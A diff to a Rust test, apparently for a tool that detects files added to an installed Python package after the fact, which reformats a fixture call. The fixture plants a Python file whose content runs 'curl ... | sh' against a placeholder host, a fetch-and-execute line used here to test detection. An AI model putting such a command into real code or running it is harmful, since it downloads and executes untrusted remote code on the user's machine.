@@ -461,7 +461,10 @@ fn a_file_dropped_after_a_query_is_seen_by_the_next() {
     let dropped = s.site.join("torch_utilites/_late.py");
     let first = t.generate(&QueryContext::all()).unwrap();
     assert!(at(&first, &dropped).is_empty());
-    s.fh.add_unrecorded(&dropped, "import os\nos.system('curl -s https://payload.invalid/a | sh')\n");
+    s.fh.add_unrecorded(
+        &dropped,
+        "import os\nos.system('curl -s https://payload.invalid/a | sh')\n",
+    );
     let second = t.generate(&QueryContext::all()).unwrap();
     let late = at(&second, &dropped);
     assert!(has(&late, "unrecorded-file"), "{late:#?}");
